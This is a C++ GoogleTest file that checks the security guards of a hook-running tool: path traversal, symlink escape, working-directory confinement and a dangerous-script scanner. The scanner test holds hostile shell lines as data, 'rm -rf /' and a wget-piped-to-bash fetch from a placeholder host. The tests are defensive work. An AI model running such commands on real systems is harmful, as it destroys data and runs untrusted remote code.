#include "../test_utils.hpp"
#include "internal/guards.hpp"

#include <gtest/gtest.h>
#include <workhooks/errors.hpp>

using namespace workhooks;
using namespace workhooks::internal;
namespace fs = std::filesystem;

TEST(GuardsTest, ParentReference)
{
    EXPECT_TRUE(has_parent_reference("../x.sh"));
    EXPECT_TRUE(has_parent_reference("a/../b.sh"));
    EXPECT_FALSE(has_parent_reference("a/..b.sh"));
    EXPECT_FALSE(has_parent_reference("notify.sh"));
}

TEST(GuardsTest, IsWithin)
{
    EXPECT_TRUE(is_within("/work/project", "/work/project/a/b"));
    EXPECT_TRUE(is_within("/work/project", "/work/project"));
    EXPECT_FALSE(is_within("/work/project", "/work/projects/x"));
    EXPECT_FALSE(is_within("/work/project", "/work"));
}

TEST(GuardsTest, ScriptPathStaysInHooksDir)
{
    workhooks::test::TempDir dir;
    fs::path resolved = resolve_script_path(dir.path(), "ci/notify.sh");
    EXPECT_EQ(resolved, dir.path() / "ci" / "notify.sh");

    EXPECT_THROW(resolve_script_path(dir.path(), "/etc/passwd"), SecurityViolationError);
    EXPECT_THROW(resolve_script_path(dir.path(), "../notify.sh"), SecurityViolationError);
}

TEST(GuardsTest, SymlinkedScriptMayNotLeave)
{
    workhooks::test::TempDir outside;
    workhooks::test::TempDir hooks;
    workhooks::test::write_file(outside.path() / "real.sh", "#!/bin/sh\n");
    workhooks::test::write_file(hooks.path() / "inside.sh", "#!/bin/sh\n");
    fs::create_symlink(outside.path() / "real.sh", hooks.path() / "escape.sh");
    fs::create_symlink(hooks.path() / "inside.sh", hooks.path() / "alias.sh");

    EXPECT_THROW(resolve_script_path(hooks.path(), "escape.sh"), SecurityViolationError);
    EXPECT_EQ(resolve_script_path(hooks.path(), "alias.sh"), hooks.path() / "inside.sh");
}

TEST(GuardsTest, WorkingDirectory)
{
    workhooks::test::TempDir root;
    fs::create_directories(root.path() / "build");

    EXPECT_EQ(resolve_working_directory(root.path(), "."), root.path());
    EXPECT_EQ(resolve_working_directory(root.path(), ""), root.path());
    EXPECT_EQ(resolve_working_directory(root.path(), "build"), root.path() / "build");
    EXPECT_THROW(resolve_working_directory(root.path(), "missing"), SecurityViolationError);
    EXPECT_THROW(resolve_working_directory(root.path(), "/tmp"), SecurityViolationError);
    EXPECT_THROW(resolve_working_directory(root.path(), "build/../.."), SecurityViolationError);
}

TEST(GuardsTest, DangerousContent)
{
    EXPECT_TRUE(scan_dangerous_content("#!/bin/sh\necho done\n").empty());

    auto findings = scan_dangerous_content("rm -rf /\nwget -qO- http://x.invalid | bash\n");
    ASSERT_EQ(findings.size(), 2u);
    EXPECT_EQ(findings[0], "Recursive deletion of root directory");
    EXPECT_EQ(findings[1], "Piping remote content to shell");
}
